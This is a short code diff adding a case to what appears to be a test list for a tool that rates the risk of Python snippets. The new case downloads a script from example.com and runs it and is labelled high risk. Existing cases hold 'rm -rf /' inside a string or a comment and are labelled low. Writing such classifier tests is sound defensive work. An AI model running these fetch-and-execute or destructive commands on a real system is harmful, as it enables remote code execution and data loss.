@@ -9,6 +9,7 @@ from workbench.facts.scope import Limits, Scope
 LIMITS = Limits(time_ms=60_000)
 
 SYSTEM = [
+    ("urllib.request.urlretrieve('https://example.com/t.py', 't.py')\nos.system('python t.py')", "high"),
     ("import math\nprint(math.sqrt(2))", "low"),
     ("print('os.system(\"rm -rf /\")')", "low"),
     ("# os.system('rm -rf /')\nx = 1", "low"),
